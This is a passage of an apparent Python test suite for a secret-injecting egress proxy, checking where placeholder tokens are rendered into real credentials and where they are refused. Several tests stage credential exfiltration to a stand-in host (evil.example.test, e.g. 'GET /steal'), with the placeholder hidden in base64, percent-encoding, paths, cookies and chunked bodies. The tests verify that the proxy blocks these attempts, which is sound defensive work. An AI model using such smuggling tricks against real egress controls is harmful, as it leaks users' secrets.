# SPDX-License-Identifier: Apache-2.0
"""Secrets in the place of placeholders: the real coffer-egress, real clients and servers that check the credential, and a
stand-in for the vault that tells what it was asked for. Every refusal or removal has a positive control beside it."""

import base64
import gzip
import hashlib
import json
import os
import random
import re
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))

import egressrig  # noqa: E402
import httptest as ht  # noqa: E402
from coffertest import Tap, slow_build  # noqa: E402
from egressrig import CTL_NEW_VAULT, CTL_OK, PATIENCE, FakeVault, Rig, grants, wait_for  # noqa: E402
from memsearch import has_any, search  # noqa: E402

egressrig.enter()
tap = Tap()
TMP = tempfile.TemporaryDirectory(prefix="inject-")
D = TMP.name
CA = ht.Authority(D)
TRUST = os.path.join(D, "inside.pem")

LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def word(n):
    return "".join(random.choice(LETTERS) for _ in range(n))


PH = "ghp_" + word(36)
REAL = "ghp_" + word(30) + "/+\"x&y"
BOT_PH = "123456789:" + word(35)
BOT = "987654321:" + word(35)
CONTROL = "ctl_" + word(36)  # nobody's secret: it comes back as it is
assert len(PH) == len(REAL)

POLICY = """
version: 1
egress:
  allow:
    - {domain: api.example.test, port: [443, 80], http: [{allow: "*,WEBSOCKET /**"}]}
    - {domain: h2.example.test, port: 443, http: [{allow: "* /**"}]}
    - {domain: bot.example.test, port: 443, http: [{allow: "* /bot*/**"}]}
    - {domain: evil.example.test, port: 443, http: [{allow: "*,WEBSOCKET /**"}]}
    - {domain: expired.example.test, port: 443, http: [{allow: "* /**"}]}
    - {domain: wrong.example.test, port: 443, http: [{allow: "* /**"}]}
    - {domain: only.example.test, port: 443, http: [{allow: "* /**"}], credentials: only}
    - {domain: onlybot.example.test, port: 443, http: [{allow: "* /**"}], credentials: only}
    - {domain: rule.example.test, port: 443, secret: other}
    - {domain: peek.example.test, port: 443}
"""
SECRET = (f"github 7 {PH}|api.example.test/v1 bearer|api.example.test/v1 basic|api.example.test/q query:key|"
          "api.example.test/c cookie:sid|api.example.test/h header:x-api-key|api.example.test/body body|"
          "h2.example.test bearer|h2.example.test query:key|expired.example.test bearer|wrong.example.test bearer|"
          "only.example.test bearer|only.example.test basic|rule.example.test bearer|peek.example.test bearer")
BOT_SECRET = f"bot 9 {BOT_PH}|bot.example.test path|onlybot.example.test path|onlybot.example.test body"


def run(*args, **kw):
    env = {"PATH": os.environ["PATH"], "HOME": D, "SSL_CERT_FILE": TRUST, "CURL_CA_BUNDLE": TRUST}
    return subprocess.run(args, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=PATIENCE * 2, check=False, **kw)


def curl(*args, stdin=os.devnull):
    with open(stdin, "rb") as f:
        return run("curl", "-sS", "--max-time", str(int(PATIENCE)), "-w", "\n%{http_code} %{http_version}", *args, stdin=f)


def split(r):
    """(status, version, body) of curl()."""
    body, _, tail = r.stdout.rpartition(b"\n")
    code, version = tail.decode().split()
    return int(code), version, body


class Client:
    """One connection that says exactly what it is told."""

    def __init__(self, rig, host, port=443):
        s = rig.connect(rig.lookup(host), port)
        s.settimeout(PATIENCE)
        if port == 443:
            ctx = ssl.create_default_context(cafile=TRUST)
            ctx.set_alpn_protocols(["http/1.1"])
            s = ctx.wrap_socket(s, server_hostname=host)
        self.s, self.f = s, s.makefile("rb")

    def ask(self, text):
        self.s.sendall(text.replace("\n", "\r\n").encode())
        return self

    def head(self):
        out = b""
        while not out.endswith(b"\r\n\r\n"):
            line = self.f.readline()
            if not line:
                break
            out += line
        return out.decode("latin-1")

    def answer(self):
        head = self.head()
        n = next((int(x.split(":")[1]) for x in head.split("\r\n") if x.lower().startswith("content-length:")), 0)
        return int(head.split(" ")[1]) if head else 0, head, self.f.read(n)

    def chunks(self):
        """The next chunk of an answer without a length; b"" at its end."""
        n = int(self.f.readline(), 16)
        data = self.f.read(n)
        self.f.readline()
        return data


def token_of(r):
    auth = r.get("authorization") or ""
    return auth.split(" ", 1)[1] if " " in auth else ""


def mirror(c, r):
    """The credential that the server got, in every encoding that it can think of; the control string beside it."""
    t = token_of(r)
    raw = t.encode()
    parts = [t, json.dumps({"t": t}), urllib.parse.quote(t, safe=""), raw.hex(), raw.hex().upper()]
    parts += [base64.b64encode(b"." * i + raw + b"..").decode() for i in range(3)]
    parts += [base64.urlsafe_b64encode(b"." * i + raw + b"..").decode() for i in range(3)]
    body = ("\n".join(parts) + "\n" + CONTROL + "\n" + base64.b64encode(CONTROL.encode()).decode()).encode()
    ht.reply(c, body, fields=[("X-Token", t), ("Location", "/next?t=" + urllib.parse.quote(t, safe="")), ("X-Control", CONTROL),
                              ("Set-Cookie", f"a={base64.b64encode(raw).decode()}; Path=/")])


def lines(text, width, end):
    return end.join(text[i:i + width] for i in range(0, len(text), width))


def in_lines(c, r):
    """As mail has it, and as services put files into JSON: base64 in lines. And percent-encoded here and there."""
    out = []
    for t in (token_of(r), CONTROL):
        for before in range(40, 58):
            whole = base64.b64encode(b"." * before + t.encode() + b"..").decode()
            out += [lines(whole, 76, "\r\n"), lines(whole, 60, "\n"), json.dumps({"content": lines(whole, 60, "\n")})]
        out += [lines(base64.b64encode(t.encode()).decode(), 1, "\n")]
        out += ["".join(f"%{ord(x):02X}" if random.random() < p else x for x in t) for p in (0.05, 0.3, 0.9)]
    ht.reply(c, "\n|\n".join(out).encode())


def trickle(c, r):
    """Chunk by chunk, a byte at a time, and in a trailer."""
    t = token_of(r)
    c.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: x-t\r\n\r\n")
    for ch in f"<{t}|{CONTROL}>":
        c.sendall(b"1\r\n" + ch.encode() + b"\r\n")
    c.sendall(b"0\r\nx-t: " + t.encode() + b"\r\nx-c: " + CONTROL.encode() + b"\r\n\r\n")


def events(c, r):
    """An event with the token now, another when the test says go."""
    t = token_of(r)
    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
    for i, data in enumerate((f"data: {t}\n\n", f"data: {CONTROL}\n\n")):
        if i:
            r.origin.go.wait(60)
        c.sendall(b"%x\r\n%s\r\n" % (len(data), data.encode()))
    c.sendall(b"0\r\n\r\n")


def large(c, r):
    t = token_of(r).encode()
    body = b"".join(os.urandom(random.randrange(3000)) + t + b"|" + CONTROL.encode() for _ in range(300))
    r.origin.large = body
    ht.reply(c, body)


def packed(c, r):
    body = gzip.compress(token_of(r).encode())
    ht.reply(c, body, fields=[("Content-Encoding", "gzip")])


def bare(status, fields=()):
    def handler(c, r):
        head = [f"HTTP/1.1 {status}", f"X-Token: {token_of(r)}", *fields]
        c.sendall("\r\n".join(head).encode() + b"\r\n\r\n")
    return handler


def once(c, r):
    """An answer, and then the connection is gone: the next request on it has to go elsewhere."""
    ht.reply(c, token_of(r).encode())
    wait = r.origin.once
    if not wait.is_set():
        wait.set()
        return False
    return True


def body_back(c, r):
    ht.reply(c, r.body, fields=[("Content-Type", r.get("content-type") or "text/plain")])


def socket_echo(c, r):
    """A websocket that says the token first, in a frame."""
    key = (r.get("sec-websocket-key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()
    accept = base64.b64encode(hashlib.sha1(key).digest()).decode()
    c.sendall(f"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
              f"Sec-WebSocket-Accept: {accept}\r\n\r\n".encode())
    c.sendall(ht.ws_frame(token_of(r).encode(), mask=False))
    c.sendall(ht.ws_frame((CONTROL + "ghp").encode(), mask=False))  # ends as the token begins, and nothing follows
    ht.ws_read(r.f)
    return False


HANDLERS = {"/v1/lines": in_lines, "/v1/mirror": mirror, "/v1/trickle": trickle, "/v1/events": events, "/v1/large": large, "/v1/gzip": packed,
            "/v1/304": bare("304 Not Modified", ["ETag: x"]), "/v1/204": bare("204 No Content"), "/v1/once": once,
            "/body/x": body_back, "/v1/ws": socket_echo}


def bearer(token=PH):
    return "-H", f"Authorization: Bearer {token}"


def rendered(rig, api):
    """Each place, and what the server gets."""
    code, version, _ = split(curl("--http1.1", *bearer(), "https://api.example.test/v1/x"))
    got = api.last("/v1/x")
    tap.ok(code == 200 and version == "1.1" and got.get("authorization") == f"Bearer {REAL}", "a bearer token is rendered", got.head)
    tap.ok(got.get("accept-encoding") == "identity" and not got.get("range"),
           "a request with a secret asks for a whole, unencoded response", got.head)
    curl("--http1.1", *bearer(), "-H", "Range: bytes=0-9", "-H", "If-Range: x", "--compressed",
         "https://api.example.test/v1/range")
    got = api.last("/v1/range")
    tap.ok(not got.get("range") and not got.get("if-range") and got.get("accept-encoding") == "identity",
           "a request with a secret loses Range and Accept-Encoding of the client", got.head)
    curl("--http1.1", "-H", "Range: bytes=0-9", "--compressed", "https://api.example.test/v1/plain")
    got = api.last("/v1/plain")
    tap.ok(got.get("range") and "gzip" in got.get("accept-encoding"),
           "(a request without a secret keeps Range and Accept-Encoding)", got.head)
    code, version, _ = split(curl("--http2", *bearer(), "https://api.example.test/v1/from-h2"))
    tap.ok(code == 200 and version == "2" and token_of(api.last("/v1/from-h2")) == REAL, "a secret is rendered from HTTP/2 to HTTP/1.1")
    curl("-u", f"someone:{PH}", "https://api.example.test/v1/basic")
    pair = base64.b64decode(token_of(api.last("/v1/basic"))).decode()
    tap.eq(pair, f"someone:{REAL}", "a password inside Basic is rendered")
    curl(f"https://api.example.test/q?a=1&key={PH}&b=2")
    want = f"/q?a=1&key={urllib.parse.quote(REAL, safe='')}&b=2"
    tap.ok(api.last(want), "a query parameter is rendered percent-encoded", [r.target for r in api.requests[-1:]])
    curl("-b", f"a=b; sid={PH}", "https://api.example.test/c")
    got = api.last("/c")
    tap.ok(got and got.get("cookie") == f"a=b; sid={REAL}", "a cookie is rendered", got and got.head)
    curl("-H", f"X-Api-Key: {PH}", "https://api.example.test/h")
    tap.eq(api.last("/h").get("x-api-key"), REAL, "a header is rendered")
    bot = list(rig.bot.requests)
    code, _, _ = split(curl(f"https://bot.example.test/bot{BOT_PH}/getMe"))
    new = rig.bot.requests[len(bot):]
    tap.ok(code == 200 and len(new) == 1 and new[0].target == f"/bot{urllib.parse.quote(BOT, safe='')}/getMe",
           "a segment of the path is rendered, and its rule sees one segment", [r.target for r in new])


def bodies(api):
    for what, ctype, sent, want in (
            ("JSON", "application/json", json.dumps({"k": PH}), json.dumps({"k": REAL})),
            ("a form", "application/x-www-form-urlencoded", f"a=1&k={PH}", f"a=1&k={urllib.parse.quote(REAL, safe='')}"),
            ("text", "text/plain", f"<{PH}>", f"<{REAL}>")):
        for version in ("--http1.1", "--http2"):
            code, _, _ = split(curl(version, "-H", f"Content-Type: {ctype}", "-d", sent, "https://api.example.test/body/x"))
            got = api.last("/body/x")
            tap.ok(code == 200 and got.body.decode() == want and got.get("content-length") == str(len(want)),
                   f"a secret in a body of {what} is rendered with the right length ({version})", got.body)
    code, _, body = split(curl("--http1.1", "-H", "Transfer-Encoding: chunked", "-H", "Content-Type: application/json", "-d",
                               json.dumps({"k": PH, "c": CONTROL}), "https://api.example.test/body/x"))
    tap.ok(code == 200 and json.loads(api.last("/body/x").body) == {"k": REAL, "c": CONTROL} and
           json.loads(body) == {"k": "*" * len(json.dumps(REAL)[1:-1]), "c": CONTROL},
           "a secret in a chunked body is rendered, and does not come back", body)
    big = os.path.join(D, "big")
    with open(big, "wb") as f:
        f.write(b"x" * 1500000 + PH.encode())
    code, _, _ = split(curl("--http1.1", "-H", "Expect:", "--data-binary", f"@{big}", "https://api.example.test/body/x"))
    got = api.last("/body/x")
    tap.ok(code == 200 and got.body.endswith(PH.encode()), "a body that is too long to be held is sent with the placeholder")
    for version in ("--http1.1", "--http2"):
        code, _, _ = split(curl(version, "-X", "POST", "-H", "Expect:", "-T", "-", "https://api.example.test/body/x", stdin=big))
        got = api.last("/body/x")
        tap.ok(code == 200 and len(got.body) == 1500000 + len(PH) and got.body.endswith(PH.encode()),
               f"a body that is too long, of unknown length, is sent with the placeholder ({version})", len(got.body))
    code, _, _ = split(curl("--http1.1", "-H", "Expect: 100-continue", "-H", "Content-Type: application/json", "-d",
                            json.dumps({"k": PH}), "https://api.example.test/body/x"))
    got = api.last("/body/x")
    tap.ok(code == 200 and json.loads(got.body) == {"k": REAL} and not got.get("expect"),
           "a secret in a body after Expect: 100-continue is rendered", got.head)
    curl("-d", PH, "https://api.example.test/v1/nobody")
    tap.eq(api.last("/v1/nobody").body.decode(), PH, "a body is not touched where no secret is bound to bodies")


def many_bodies(rig, api):
    """Bodies that wait for the vault, or for a connection, count as long as they are there: 64 MiB of all together."""
    text = json.dumps({"k": PH, "x": "y" * 1000000})
    head = f"POST /body/many HTTP/1.1\r\nHost: api.example.test\r\nContent-Type: application/json\r\nContent-Length: {len(text)}\r\n\r\n"
    before, asked, clients = rig.rss(), len(rig.vault.requests), []
    rig.vault.hold = True

    def send(c):
        try:
            c.s.sendall(head.encode() + text.encode())
        except OSError:
            pass  # those that are not taken any more wait until they are ended
    for _ in range(130):
        c = Client(rig, "api.example.test")
        t = threading.Thread(target=send, args=(c,), daemon=True)
        t.start()
        clients.append((c, t))
    wait_for("the first questions", lambda: len(rig.vault.held) >= 40)
    seen = [0, 0]

    def is_still():
        """Until nothing more is taken in."""
        seen[0], seen[1] = seen[1], rig.rss()
        time.sleep(0.3)
        return seen[0] == seen[1]
    wait_for("an end of it", is_still)
    grown = (rig.rss() - before) // 1024
    # The freed memory that a sanitizer keeps comes on top.
    tap.ok(grown < (115 if slow_build() == 1 else 500),
           f"130 bodies of a megabyte that wait for the vault take {grown} MiB", len(rig.vault.held))
    for c, _ in clients:
        c.s.shutdown(socket.SHUT_RDWR)
    for _, t in clients:
        t.join()
    rig.vault.hold = False
    for answer in rig.vault.held:
        rig.vault.sock.send(answer)
    rig.vault.held.clear()
    wait_for("them to be forgotten", lambda: rig.stats()["inspect"]["requests_now"] == 0)
    tap.ok(len(rig.vault.requests) > asked, "(the vault was asked for some)")
    for _ in range(3):
        code, _, _ = split(curl("--http1.1", "-H", "Content-Type: application/json", "-d", json.dumps({"k": PH}),
                                "https://api.example.test/body/after"))
        tap.ok(code == 200 and json.loads(api.last("/body/after").body) == {"k": REAL}, "a body is rendered after 130 others were given up")


def refused(rig, api):
    """Anywhere else: a 403 that says so, an alert, and the connection goes on."""
    evil = Client(rig, "evil.example.test")
    code, _, body = evil.ask(f"GET /steal HTTP/1.1\nHost: evil.example.test\nAuthorization: Bearer {PH}\n\n").answer()
    said = json.loads(body)
    tap.ok(code == 403 and "'github'" in said["reason"] and "api.example.test" in said["reason"],
           "a placeholder to another host is 403 with the reason", body)
    tap.ok(not has_any(body, REAL), "the refusal of a placeholder does not have the secret")
    code, _, _ = evil.ask("GET /fine HTTP/1.1\nHost: evil.example.test\n\n").answer()
    tap.ok(code == 200 and rig.evil.last("/fine") and not rig.evil.last("/steal"),
           "later requests of a connection with a refused placeholder are served")
    alert = rig.events("alert", kind="secret", name="evil.example.test")[0]
    tap.ok("github" in alert["text"], "a placeholder to another host raises an alert in the journal", alert)
    asked = len(rig.vault.requests)
    pair = base64.b64encode(f"u:{PH}".encode()).decode()
    for what, text in (("inside Basic", f"GET /s1 HTTP/1.1\nHost: evil.example.test\nAuthorization: Basic {pair}\n\n"),
                       ("in the query", f"GET /s2?x={PH} HTTP/1.1\nHost: evil.example.test\n\n"),
                       ("in the path", f"GET /s3/{PH} HTTP/1.1\nHost: evil.example.test\n\n"),
                       ("in a cookie", f"GET /s4 HTTP/1.1\nHost: evil.example.test\nCookie: a={PH}\n\n"),
                       ("in any header", f"GET /s5 HTTP/1.1\nHost: evil.example.test\nX-Y: a{PH}b\n\n")):
        code, _, _ = evil.ask(text).answer()
        tap.eq(code, 403, f"a placeholder {what} to another host is 403")
    encoded = [base64.b64encode(b"." * i + PH.encode() + b"..").decode() for i in range(3)]
    for what, field in [(f"in base64, {i} behind", f"X-T: {x}") for i, x in enumerate(encoded)] + \
            [("in base64 for URLs", f"X-T: {base64.urlsafe_b64encode(PH.encode()).decode()}"), ("percent-encoded", f"X-T: %67{PH[1:]}")]:
        code, _, body = evil.ask(f"GET /s6 HTTP/1.1\nHost: evil.example.test\n{field}\n\n").answer()
        tap.ok(code == 403 and b"'github'" in body, f"a placeholder {what} to another host is 403 with the secret's name", body)
    tap.eq(evil.ask(f"GET /s7 HTTP/1.1\nHost: evil.example.test\nX-T: {base64.b64encode(CONTROL.encode()).decode()}\n\n").answer()[0], 200,
           "(base64 of another text is sent to another host)")
    tap.eq(len(rig.evil.requests), 2, "no request with a placeholder reached the other host")
    for what, args in (("another path", (*bearer(), "https://api.example.test/v2/x")),
                       ("a path that only begins so", (*bearer(), "https://api.example.test/v10")),
                       ("another place", ("-H", f"X-Api-Key: {PH}", "https://api.example.test/v1/x")),
                       ("plain HTTP", (*bearer(), "http://api.example.test/v1/x")),
                       ("HTTP/2 to another host", ("--http2", *bearer(), "https://evil.example.test/h2")),
                       ("a rule that names another secret", (*bearer(), "https://rule.example.test/"))):
        code, _, body = split(curl(*args))
        tap.ok(code == 403, f"a placeholder with {what} is 403", body)
    tap.eq(len(rig.vault.requests), asked, "the vault was asked for no refused placeholder")
    rig.events("alert", kind="secret", name="api.example.test")
    texts = [e["text"] for e in rig.lines() if e["ev"] == "alert" and e.get("name") == "api.example.test"]
    tap.ok(any("without TLS" in x for x in texts) and any("x-api-key" in x for x in texts),
           "two different alerts for one host are both written", texts)
    two = Client(rig, "api.example.test")
    two.ask(f"GET /v1/p1 HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n"
            f"GET /v2/p2 HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n"
            f"GET /v1/p3 HTTP/1.1\nHost: evil.example.test\nAuthorization: Bearer {PH}\n\n")
    codes = [two.answer()[0] for _ in range(3)]
    tap.eq(codes, [200, 403, 421], "pipelined requests are decided one by one")
    tap.ok(token_of(api.last("/v1/p1")) == REAL and not api.last("/v2/p2"), "only the allowed one of three pipelined requests is rendered")


def alerts(rig, host):
    return [e["text"] for e in rig.lines() if e["ev"] == "alert" and e.get("name") == host]


def refused_bodies(rig, api):
    """A placeholder in a body: refused where nothing is bound, and before anything is sent where that can be known."""
    form, js = f"a=1&t={PH}&b=2", json.dumps({"t": [PH], "c": CONTROL})
    before = len(rig.evil.requests)
    for version in ("--http1.1", "--http2"):
        for what, args in (("a form", ("-d", form)), ("JSON", ("-H", "Content-Type: application/json", "-d", js)),
                           ("in base64", ("-d", base64.b64encode(b"xy" + js.encode()).decode())),
                           ("percent-encoded", ("-d", f"t=%67{PH[1:]}"))):
            code, _, body = split(curl(version, *args, "https://evil.example.test/b"))
            tap.ok(code == 403 and b"'github'" in body and b"api.example.test" in body,
                   f"a placeholder in a body ({what}) to another host is 403 ({version})", body)
    tap.eq(len(rig.evil.requests), before, "no body with a placeholder was sent to another host")
    tap.ok(any("'github'" in x and "evil.example.test" in x for x in alerts(rig, "evil.example.test")),
           "a placeholder in a body to another host raises an alert in the journal",
           alerts(rig, "evil.example.test"))
    evil = Client(rig, "evil.example.test")
    head = f"POST /b2 HTTP/1.1\nHost: evil.example.test\nContent-Length: {len(form)}\n\n"
    codes = [evil.ask(head + form).answer()[0], evil.ask("GET /after HTTP/1.1\nHost: evil.example.test\n\n").answer()[0]]
    tap.eq(codes, [403, 200], "later requests of a connection with a refused body are served")
    evil.s.close()
    big = os.path.join(D, "upload")
    with open(big, "wb") as f:
        f.write(b"x" * 300000 + PH.encode() + b"y" * 300000)
    control = os.path.join(D, "control")
    with open(control, "wb") as f:
        f.write(b"x" * 300000 + CONTROL.encode() + b"y" * 300000)
    for version in ("--http1.1", "--http2"):
        for what, args in (("long", ("-H", "Expect:", "--data-binary", f"@{big}")), ("of unknown length", ("-H", "Expect:", "-T", "-"))):
            n = len(alerts(rig, "evil.example.test"))
            r = curl(version, "-X", "POST", *args, "https://evil.example.test/long", stdin=big)
            got = [q for q in rig.evil.requests if q.target == "/long"]
            tap.ok(b"'github'" in r.stdout and b"\n403" in r.stdout and not any(PH.encode() in (q.body or b"") for q in got),
                   f"a body with a placeholder, {what}, is broken off with the reason ({version})", r.stdout[-300:], r.stderr[-300:], n)
            code, _, _ = split(curl(version, "-X", "POST", *[a.replace(big, control) for a in args], "https://evil.example.test/control",
                                    stdin=control))
            tap.ok(code == 200 and rig.evil.last("/control").body.count(CONTROL.encode()) == 1,
                   f"(another body of the same length, {what}, is sent) ({version})")
    piece = Client(rig, "evil.example.test")
    piece.ask("POST /pieces HTTP/1.1\nHost: evil.example.test\nTransfer-Encoding: chunked\n\n")
    for ch in f"t={PH}":
        piece.s.sendall(f"1\r\n{ch}\r\n".encode())
        time.sleep(0.001)
    tap.eq(piece.answer()[0], 403, "a placeholder in a body that comes a byte at a time is 403")
    piece.s.close()
    tap.ok(not any(PH.encode() in (q.body or b"") for q in rig.evil.requests), "no other host received a whole placeholder in a body")
    n = len(alerts(rig, "api.example.test"))
    for version in ("--http1.1", "--http2"):
        code, _, _ = split(curl(version, "-d", form, "https://api.example.test/v1/quote"))
        tap.ok(code == 200 and api.last("/v1/quote").body.decode() == form,
               f"a placeholder in a body may be sent to a host that its secret is bound to ({version})")
    tap.eq(len(alerts(rig, "api.example.test")), n, "a placeholder in a body to its own host raises no alert")
    for version in ("--http1.1", "--http2", "--http1.1"):
        code, _, _ = split(curl(version, "-d", f"env={BOT_PH}", "https://api.example.test/v1/env"))
        tap.ok(code == 200 and BOT_PH in api.last("/v1/env").body.decode(),
               f"the placeholder of another secret may be sent in a body to a bound host ({version})")
    tap.eq(len([x for x in alerts(rig, "api.example.test") if "'bot'" in x]), 1,
           "the placeholder of another secret to a bound host raises one alert")


def second_paths(rig, api):
    """A request that acts on two paths: the secret has to be bound to both."""
    c = Client(rig, "api.example.test")

    def copy(path, field, value, token=PH):
        asked = len(rig.vault.requests)
        code, _, body = c.ask(f"COPY {path} HTTP/1.1\nHost: api.example.test\n{field}: {value}\nAuthorization: Bearer {token}\n\n"
                              ).answer()
        return code, len(rig.vault.requests) - asked, body

    for i, (field, inside, outside) in enumerate((
            ("Destination", "https://api.example.test/v1/b", "https://api.example.test/v2/b"),
            ("Destination", "/v1", "/v10"), ("X-Amz-Copy-Source", "v1/b", "body/b"), ("x-ms-rename-source", "/v1/b", "/"))):
        path = f"/v1/copy{i}"
        code, asked, body = copy(path + "in", field, inside)
        tap.ok(code == 200 and asked == 1 and token_of(api.last(path + "in")) == REAL,
               f"{field}: {inside}: a second path that the secret is bound to is rendered", body)
        code, asked, body = copy(path + "out", field, outside)
        tap.ok(code == 403 and asked == 0 and b"second path" in body and not api.last(path + "out"),
               f"{field}: {outside}: a second path that the secret is not bound to is 403", body)
        code, asked, body = copy(path + "own", field, outside, "own")
        tap.ok(code == 200 and asked == 0 and api.last(path + "own"),
               f"{field}: {outside}: (a second path is allowed without the secret)", body)


def new_policy(rig, api):
    """A rendering that was planned by the old one and not sent is not sent by the new one."""
    text = f"GET /v1/changed HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n"
    rig.vault.hold = True
    c = Client(rig, "api.example.test")
    c.ask(text)
    wait_for("the question", lambda: rig.vault.held)
    rig.policy(POLICY + "    - {domain: late.example.test, port: 443}\n")
    code, _, body = c.answer()
    tap.ok(code == 503 and b"policy has changed" in body, "a policy that changes while the vault is asked makes the request 503", body)
    rig.vault.hold = False
    rig.vault.sock.send(rig.vault.held.pop())
    code, _, body = c.ask("GET /v1/unchanged HTTP/1.1\nHost: api.example.test\n\n").answer()
    tap.ok(code == 200 and not api.last("/v1/changed"),
           "a request is not sent after a policy change, and a late answer of the vault harms no other", body)
    code, _, body = c.ask(text).answer()
    tap.ok(code == 200 and token_of(api.last("/v1/changed")) == REAL, "a request that is repeated after a policy change is sent", body)
    sent = json.dumps({"k": PH})
    head = f"POST /body/x HTTP/1.1\nHost: api.example.test\nExpect: 100-continue\nContent-Length: {len(sent)}\n\n"
    before = len(api.requests)
    tap.like(c.ask(head).head(), " 100 ", "a body is asked for with 100 Continue")
    rig.policy(POLICY)
    code, _, body = c.answer()
    tap.ok(code == 503 and b"policy has changed" in body and len(api.requests) == before,
           "a policy that changes while a body is waited for makes the request 503", body)
    api.go.clear()
    c = Client(rig, "api.example.test")
    c.ask(f"GET /v1/events HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n").head()
    first = b""
    while not first.endswith(b"\n\n"):
        first += c.chunks()
    rig.policy(POLICY)
    api.go.set()
    rest = b""
    while not rest.endswith(b"\n\n"):
        rest += c.chunks()
    tap.eq(rest, f"data: {CONTROL}\n\n".encode(), "(a response that has begun goes on over a policy change)")
    c.s.close()


def unverified(rig):
    for host in ("expired.example.test", "wrong.example.test"):
        asked = len(rig.vault.requests)
        code, _, body = split(curl(*bearer(), f"https://{host}/x"))
        tap.ok(code == 502 and b"certificate" in body and len(rig.vault.requests) == asked,
               f"{host}: a server that is not verified gets no secret, and the vault is not asked", body)
        lines_ = rig.lines()
        tap.ok(any(e["ev"] == "request" and e.get("host") == host for e in lines_) and
               not [e for e in lines_ if e["ev"] == "secret" and e.get("host") == host],
               f"{host}: a server that is not verified is no use of the secret in the journal")


def only(rig):
    def ask(*args):
        return split(curl(*args, "https://only.example.test/x"))[0]
    tap.eq(ask(*bearer()), 200, "credentials: only lets a bound secret through")
    tap.eq(token_of(rig.only.last("/x")), REAL, "credentials: only renders the secret")
    tap.eq(ask("-u", f"git:{PH}"), 200, "credentials: only lets a bound secret through as a password")
    tap.eq(ask("-H", "Authorization: Bearer ghp_somebodyelse"), 403, "credentials: only refuses another token")
    tap.eq(ask(*bearer(), "-H", "X-Api-Key: mine"), 403, "credentials: only refuses another credential beside the secret")
    tap.eq(ask("-u", f"ghp_{word(36)}:{PH}"), 403, "credentials: only refuses a token as the user name of the secret")
    tap.eq(ask(), 200, "credentials: only lets requests without credentials through")
    code, _, body = split(curl("-H", "X-Company-Token: mine", "https://only.example.test/x"))
    tap.ok(code == 403 and b"the header x-company-token" in body.lower(), "credentials: only names the refused header as it was sent", body)


THEIRS = "ghp_" + word(36)
THEIR_BOT = "123456789:AA" + word(33)


def only_elsewhere(rig):
    """Somebody else's credential in places that have no name for one."""
    js = ("-H", "Content-Type: application/json")
    parts = f'--b\r\nContent-Disposition: form-data; name="api_key"\r\n\r\n%s\r\n--b--\r\n'
    multi = ("-H", "Content-Type: multipart/form-data; boundary=b")
    cases = (
        ("a header's value", ("-H", f"X-Foo: {THEIRS}"), "/x", 403), ("a query's value", (), f"/x?q={THEIRS}", 403),
        ("encoded", (), f"/x?q=%67hp_{THEIRS[4:]}", 403), ("the path", (), f"/x/{THEIRS}", 403),
        ("a form's value", ("-d", f"q={THEIRS}"), "/x", 403), ("a form's name for one", ("-d", "a=1&token=whatever"), "/x", 403),
        ("the same in brackets", ("-d", "user[password]=whatever"), "/x", 403),
        ("JSON's name for one", (*js, "-d", '{"a":{"access_token":"whatever"}}'), "/x", 403),
        ("otherwise written", (*js, "-d", '[{"clientSecret":"whatever"}]'), "/x", 403),
        ("JSON's value", (*js, "-d", json.dumps({"q": [THEIRS]})), "/x", 403),
        ("escaped", (*js, "-d", '{"q":"\\u0067hp_%s"}' % THEIRS[4:]), "/x", 403),
        ("a name twice", (*js, "-d", '{"token":"whatever","token":"%s"}' % PH), "/x", 403),
        ("JSON that is not said to be", ("-d", '{"api_key":"whatever"}'), "/x", 403),
        ("lines of JSON", ("-H", "Content-Type: application/x-ndjson", "-d", '{"a":1}\n{"password":"whatever"}'), "/x", 403),
        ("a part's name for one", (*multi, "-d", parts % "whatever"), "/x", 403),
        ("text", ("-H", "Content-Type: text/plain", "-d", f"look: {THEIRS}"), "/x", 403),
        ("a compressed body", ("-H", "Content-Encoding: gzip", "-d", "x"), "/x", 403),
        ("(a form without any)", ("-d", "q=word&b=100%25"), "/x", 200),
        ("(JSON without any)", (*js, "-d", '{"max_tokens":5,"password":null,"token":"","schema":{"password":{"type":"string"}}}'), "/x", 200),
        ("(text without any)", ("-H", "Content-Type: text/plain", "-d", "password: 100% mine"), "/x", 200),
        ("(ours in a form)", ("-d", f"token={PH}"), "/x", 200), ("(ours in JSON)", (*js, "-d", json.dumps({"token": PH, "q": PH})), "/x", 200),
        ("(ours in a part)", (*multi, "-d", parts % PH), "/x", 200))
    for version in ("--http1.1", "--http2"):
        for what, args, path, want in cases:
            before = len(rig.only.requests)
            code, _, body = split(curl(version, *args, f"https://only.example.test{path}"))
            tap.ok(code == want and len(rig.only.requests) - before == (want == 200) and (want == 200 or b"credential" in body),
                   f"credentials: only: {what} is {want} ({version})", body)
        for path, want in ((f"/bot{THEIR_BOT}/getMe", 403), (f"/bot{urllib.parse.quote(THEIR_BOT, safe='')}/getMe", 403),
                           ("/botsomething-else/getMe", 403), (f"/bot{BOT_PH}/getMe", 200), (f"/file/bot{BOT_PH}/a/b", 200), ("/", 200)):
            code, _, body = split(curl(version, f"https://onlybot.example.test{path}"))
            tap.ok(code == want, f"credentials: only: {path[:12]}, where a secret is bound to paths, is {want} ({version})", body)
        code, _, _ = split(curl(version, *js, "-d", json.dumps({"token": BOT_PH}), f"https://onlybot.example.test/bot{BOT_PH}/set"))
        tap.ok(code == 200 and json.loads(rig.only.requests[-1].body) == {"token": BOT},
               f"credentials: only renders a secret in path and body ({version})")
    too_long = "credentials: only: a body over 1 MiB is not looked into, so it is not sent"
    code, _, body = Client(rig, "only.example.test").ask("POST /big HTTP/1.1\nHost: only.example.test\nContent-Length: 1048577\n\n").answer()
